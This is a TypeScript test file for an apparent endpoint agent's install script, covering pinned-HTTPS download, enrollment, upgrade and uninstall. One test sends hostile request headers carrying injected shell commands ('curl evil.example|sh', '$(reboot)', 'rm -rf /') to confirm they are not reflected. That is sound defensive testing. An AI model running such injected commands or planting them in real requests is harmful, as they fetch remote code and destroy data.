import { existsSync, readFileSync, rmSync, statSync, writeFileSync, mkdirSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { startTestController, type TestController } from "../support/controller";
import { rawGet } from "../support/https-get";
import { agentUnitEnvironment } from "../../../scripts/bench/lib/unit-environment";
import { run, scratch, SCRIPT, seedHost, sha256, snapshot, writeFakeAgent } from "./install-support";

const hasSystemdAnalyze = existsSync("/usr/bin/systemd-analyze") || existsSync("/bin/systemd-analyze");
if (!hasSystemdAnalyze) console.warn("systemd-analyze not found: the unit file is checked by content only");

/**
 * The install script end to end: served by a real controller over HTTPS (mTLS mode,
 * so the script carries the CA pin and enrolls), fetched with the listener's key pin
 * and piped into dash as an admin would, installing into a scratch root. The
 * controller serves a small fake agent (see install-support.ts);
 * install-real-binary.test.ts installs the real one.
 */
describe("install script served by the controller", () => {
  let ctl: TestController;
  let dir: string;
  let binary: string;
  let pin: string;
  const log = () => join(dir, "enroll.log");

  // The line install-command prints, minus sudo: curl pinned to the controller's HTTPS key.
  const pipeInstall = (root: string, args: string[], env: Record<string, string> = {}) =>
    run("sh", ["-c", 'url=$1; pin=$2; shift 2; curl -fsSLk --pinnedpubkey "$pin" "$url/install.sh" | dash -s -- "$@"', "sh", ctl.httpUrl, pin, "--root", root, ...args], {
      env: { FAKE_AGENT_LOG: log(), ...env },
    });

  beforeAll(async () => {
    dir = scratch("vigil-install-");
    binary = join(dir, "vigil-agent");
    writeFakeAgent(binary, "1.0.0-fake");
    ctl = await startTestController({ mtls: true, https: true, env: { VIGIL_AGENT_BINARY: binary } });
    pin = ctl.httpTls!.pin();
  });
  afterAll(async () => {
    await ctl?.dispose();
    rmSync(dir, { recursive: true, force: true });
  });

  it("parses as POSIX sh (sh -n, dash -n)", async () => {
    for (const shell of ["sh", "dash"]) expect(await run(shell, ["-n", SCRIPT])).toMatchObject({ code: 0, stderr: "" });
  });

  it("serves the script (with both pins), the binary and its checksum over HTTPS without an API key", async () => {
    expect(ctl.httpUrl).toMatch(/^https:\/\/127\.0\.0\.1:\d+$/);
    const script = await ctl.get("/install.sh", null);
    expect(script.status).toBe(200);
    expect(script.body).toContain(`VIGIL_URL_DEFAULT='${ctl.httpUrl}'`);
    expect(script.body).toContain(`VIGIL_CONTROLLER_DEFAULT='127.0.0.1:${ctl.grpcPort}'`);
    expect(script.body).toContain(`VIGIL_CA_PIN_DEFAULT='${ctl.security.trust.ca.fingerprint}'`);
    expect(script.body).toContain(`VIGIL_TLS_PIN_DEFAULT='${pin}'`);
    expect(pin).toMatch(/^sha256\/\/[A-Za-z0-9+/]{43}=$/);
    expect(script.body).toContain(`VIGIL_ENROLL_DEFAULT='yes'`);
    const bin = await rawGet(`${ctl.httpUrl}/api/v1/agent/binary`, { ca: ctl.security.trust.ca.certPem });
    expect(bin.status).toBe(200);
    expect(bin.body.equals(readFileSync(binary))).toBe(true);
    expect(bin.headers["x-vigil-sha256"]).toBe(sha256(bin.body));
    expect((await ctl.get("/api/v1/agent/binary.sha256", null)).body).toBe(`${sha256(bin.body)}  vigil-agent\n`);
    // Everything else still wants a key.
    expect((await ctl.get("/api/v1/agents", null)).status).toBe(401);
  });

  it("never reflects request headers into the script: a hostile Host or X-Forwarded-* changes nothing", async () => {
    const get = (headers: Record<string, string>) => rawGet(`${ctl.httpUrl}/install.sh`, { ca: ctl.security.trust.ca.certPem, headers });
    const baseline = await get({});
    expect(baseline.status).toBe(200);
    const hostile: Array<Record<string, string>> = [
      { host: "evil.example:443", "x-forwarded-proto": "http", "x-forwarded-host": "evil.example" },
      { host: "x';curl evil.example|sh;'", "x-forwarded-proto": "https" },
      { host: "$(reboot):80", "x-forwarded-proto": "'$(id)'", "x-forwarded-for": "203.0.113.9" },
      { host: "`touch /tmp/pwned`", "x-forwarded-proto": "http; rm -rf /" },
    ];
    for (const headers of hostile) {
      const r = await get(headers);
      expect(r.status, JSON.stringify(headers)).toBe(200);
      expect(r.body.equals(baseline.body), JSON.stringify(headers)).toBe(true);
    }
    expect(baseline.body.toString()).not.toMatch(/evil|reboot|pwned/);
  });

  it("installs, enrolls, upgrades in place and uninstalls exactly what it added", async () => {
    const root = scratch("vigil-root-");
    seedHost(root);
    const before = snapshot(root);
    const { token } = await ctl.security.trust.tokens.create({ ttlMs: 600_000, uses: 1, tags: [], createdBy: "test" });

    // Fresh install; the token comes from a root-only file, never a command line.
    const tokenFile = join(dir, "vigil-token");
    writeFileSync(tokenFile, token + "\n", { mode: 0o600 });
    const first = await pipeInstall(root, ["--token-file", tokenFile, "--tags", "web, prod"]);
    expect(first.code, first.stderr + first.stdout).toBe(0);
    expect(first.stdout).toContain("systemctl was not run");
    expect(first.stdout).toContain("(TLS key pinned)");
    expect(first.stderr).not.toContain("--token puts the token on a command line");
    const bin = join(root, "usr/local/bin/vigil-agent");
    expect(readFileSync(bin).equals(readFileSync(binary))).toBe(true);
    expect(statSync(bin).mode & 0o777).toBe(0o755);
    const yaml = readFileSync(join(root, "etc/vigil/agent.yaml"), "utf8");
    expect(yaml).toContain(`controller: "127.0.0.1:${ctl.grpcPort}"`);
    expect(yaml).toContain("state_dir: /var/lib/vigil");
    expect(yaml).toContain('tags: ["web", "prod"]');
    expect(statSync(join(root, "var/lib/vigil")).mode & 0o777).toBe(0o700);
    // Enrolled with the token (through a file, not argv) and the CA pin from the served script.
    const enrollLog = readFileSync(log(), "utf8");
    expect(enrollLog).toContain(`--controller 127.0.0.1:${ctl.grpcPort} --state-dir ${root}/var/lib/vigil`);
    expect(enrollLog).toContain(`--ca-pin ${ctl.security.trust.ca.fingerprint}`);
    expect(enrollLog).toContain(`token=${token}`);
    expect(enrollLog).not.toContain(`--token ${token}`);
    const unitPath = join(root, "etc/systemd/system/vigil-agent.service");
    const unit = readFileSync(unitPath, "utf8");
    expect(unit).toMatch(/^Restart=always$/m);
    expect(unit).toMatch(/^Before=network-pre\.target/m);
    expect(unit).toMatch(/^Wants=network-pre\.target$/m);
    expect(unit).toMatch(/^DefaultDependencies=no$/m);
    expect(unit).toMatch(/^ExecStart=\/usr\/local\/bin\/vigil-agent run --config \/etc\/vigil\/agent\.yaml$/m);
    // Isolation is back in the kernel before network-pre.target, whatever the agent itself does.
    expect(unit).toMatch(/^ExecStartPre=\/usr\/local\/bin\/vigil-agent reapply --config \/etc\/vigil\/agent\.yaml$/m);
    // Fewer malloc arenas (docs/benchmarks.md); bench:sensor reads the same lines from the script and starts the agent with them.
    expect(unit).toMatch(/^Environment=MALLOC_ARENA_MAX=2$/m);
    expect(unit).toMatch(/^Environment=MALLOC_TRIM_THRESHOLD_=131072$/m);
    const installed = Object.fromEntries([...unit.matchAll(/^Environment=(\w+)=(.*)$/gm)].map((m) => [m[1], m[2]]));
    expect(agentUnitEnvironment(SCRIPT)).toEqual(installed);
    expect(snapshot(root)["etc/systemd/system/multi-user.target.wants/vigil-agent.service"]).toBe("link /etc/systemd/system/vigil-agent.service");

    if (hasSystemdAnalyze) {
      const v = await run("systemd-analyze", ["verify", `--root=${root}`, unitPath]);
      expect(v.code, v.stderr).toBe(0);
      expect(v.stderr).not.toMatch(/vigil-agent\.service(:\d+)?: /);
      // And it does check: without the binary the same unit fails.
      rmSync(bin);
      expect((await run("systemd-analyze", ["verify", `--root=${root}`, unitPath])).code).not.toBe(0);
      writeFileSync(bin, readFileSync(binary), { mode: 0o755 });
    }

    // State the agent built up, and an admin's edit to agent.yaml.
    const state = join(root, "var/lib/vigil");
    writeFileSync(join(state, "agent-id"), "agent-1234\n");
    mkdirSync(join(state, "spool"));
    writeFileSync(join(state, "spool", "000001.seg"), "events");
    writeFileSync(join(root, "etc/vigil/agent.yaml"), yaml + "log_level: debug\n");
    const stateBefore = snapshot(state);

    // Upgrade: a new binary on the controller; the token is spent, enrollment is kept.
    writeFakeAgent(binary, "2.0.0-fake");
    const inode = statSync(bin).ino;
    const second = await pipeInstall(root, ["--tags", "db"]);
    expect(second.code, second.stderr + second.stdout).toBe(0);
    expect(second.stdout).toContain("already enrolled");
    expect(second.stdout).toContain("2.0.0-fake");
    expect(readFileSync(bin).equals(readFileSync(binary))).toBe(true);
    expect(statSync(bin).ino).not.toBe(inode); // renamed over, never written in place
    expect(snapshot(state)).toEqual(stateBefore);
    const yaml2 = readFileSync(join(root, "etc/vigil/agent.yaml"), "utf8");
    expect(yaml2).toContain('tags: ["db"]');
    expect(yaml2).toContain("log_level: debug");
    expect(yaml2).toContain(`controller: "127.0.0.1:${ctl.grpcPort}"`);

    // A third run without flags leaves agent.yaml byte for byte.
    expect((await pipeInstall(root, [])).code).toBe(0);
    expect(readFileSync(join(root, "etc/vigil/agent.yaml"), "utf8")).toBe(yaml2);

    // Uninstall: back to exactly the host we started with.
    const un = await run("dash", [SCRIPT, "--root", root, "--uninstall"]);
    expect(un.code, un.stderr).toBe(0);
    expect(un.stdout).toContain("not touching the running kernel's nftables");
    expect(snapshot(root)).toEqual(before);
    rmSync(root, { recursive: true, force: true });
  });

  it("--uninstall --keep-state keeps the agent id, spool and keys, nothing else", async () => {
    const root = scratch("vigil-root-");
    seedHost(root);
    const before = snapshot(root);
    expect((await pipeInstall(root, ["--no-enroll"])).code).toBe(0);
    writeFileSync(join(root, "var/lib/vigil/agent-id"), "agent-5678\n");
    const un = await run("dash", [SCRIPT, "--root", root, "--uninstall", "--keep-state"]);
    expect(un.code, un.stderr).toBe(0);
    const after = snapshot(root);
    const added = Object.keys(after).filter((k) => !(k in before));
    expect(added.sort()).toEqual(["var/lib/vigil", "var/lib/vigil/agent-id"]);
    for (const k of Object.keys(before)) expect(after[k]).toBe(before[k]);
    rmSync(root, { recursive: true, force: true });
  });

  it("warns when the token is given on the command line, and still works", async () => {
    const root = scratch("vigil-root-");
    const { token } = await ctl.security.trust.tokens.create({ ttlMs: 600_000, uses: 1, tags: [], createdBy: "test" });
    const r = await pipeInstall(root, ["--token", token]);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stderr).toContain("--token puts the token on a command line");
    rmSync(root, { recursive: true, force: true });
    // And from the environment, as `VIGIL_ENROLL_TOKEN=… sh` passes it.
    const root2 = scratch("vigil-root-");
    const t2 = (await ctl.security.trust.tokens.create({ ttlMs: 600_000, uses: 1, tags: [], createdBy: "test" })).token;
    const e = await pipeInstall(root2, [], { VIGIL_ENROLL_TOKEN: t2 });
    expect(e.code, e.stderr).toBe(0);
    expect(readFileSync(log(), "utf8")).toContain(`token=${t2}`);
    rmSync(root2, { recursive: true, force: true });
  });

  it("works offline with a local binary, checking --sha256 when given", async () => {
    const root = scratch("vigil-root-");
    const args = ["--root", root, "--binary", binary, "--controller", "vigil.example.com:50051", "--no-enroll"];
    const bad = await run("dash", [SCRIPT, ...args, "--sha256", "0".repeat(64)]);
    expect(bad.code).toBe(1);
    expect(snapshot(root)).toEqual({});
    const ok = await run("dash", [SCRIPT, ...args, "--sha256", sha256(readFileSync(binary)).toUpperCase()]);
    expect(ok.code, ok.stderr).toBe(0);
    expect(readFileSync(join(root, "etc/vigil/agent.yaml"), "utf8")).toContain('controller: "vigil.example.com:50051"');
    expect(ok.stdout).toContain("not enrolling (--no-enroll)");
    rmSync(root, { recursive: true, force: true });
  });

  it("--uninstall --root on a copied image root removes the copy's files and never the original's", async () => {
    const original = scratch("vigil-root-");
    seedHost(original);
    const pristine = snapshot(original);
    const args = ["--binary", binary, "--controller", "vigil.example.com:50051", "--no-enroll"];
    const inst = await run("dash", [SCRIPT, "--root", original, ...args]);
    expect(inst.code, inst.stderr).toBe(0);
    const installed = snapshot(original);
    // The image is copied (as an image build or a golden VM copy does); the copy is then uninstalled.
    const copy = scratch("vigil-copy-");
    expect((await run("cp", ["-a", `${original}/.`, copy])).code).toBe(0);
    expect(snapshot(copy)).toEqual(installed);
    const un = await run("dash", [SCRIPT, "--root", copy, "--uninstall"]);
    expect(un.code, un.stderr).toBe(0);
    expect(snapshot(copy)).toEqual(pristine);
    expect(snapshot(original)).toEqual(installed);

    // A record written by an older installer (full paths, the original root in them): the copy's
    // uninstall removes nothing of the original's, and says which entries it skipped.
    const legacy = scratch("vigil-copy-");
    expect((await run("cp", ["-a", `${original}/.`, legacy])).code).toBe(0);
    const manifest = join(legacy, "etc/vigil/.installed");
    writeFileSync(manifest, readFileSync(manifest, "utf8").replace(/^=/gm, original));
    const old = await run("dash", [SCRIPT, "--root", legacy, "--uninstall"]);
    expect(old.code, old.stderr).toBe(0);
    expect(old.stderr).toContain(`not removing ${original}/usr/local/bin/vigil-agent: recorded for another root`);
    expect(snapshot(original)).toEqual(installed);
    for (const r of [original, copy, legacy]) rmSync(r, { recursive: true, force: true });
  });

  it("explains what is missing", async () => {
    const root = scratch("vigil-root-");
    expect(await run("dash", [SCRIPT, "--root", root, "--bogus"])).toMatchObject({ code: 1, stderr: expect.stringContaining("unknown option: --bogus") });
    expect(await run("dash", [SCRIPT, "--root", root, "--no-enroll"])).toMatchObject({ code: 1, stderr: expect.stringContaining("no controller URL") });
    expect(await run("dash", [SCRIPT, "--root", root, "--no-enroll", "--url", "ftp://x"])).toMatchObject({ code: 1, stderr: expect.stringContaining("--url must be https://") });
    // Enrollment needs a token.
    const r = await run("dash", [SCRIPT, "--root", root, "--binary", binary, "--controller", "a:1"]);
    expect(r).toMatchObject({ code: 1, stderr: expect.stringContaining("an enrollment token is required") });
    rmSync(root, { recursive: true, force: true });
  });
});
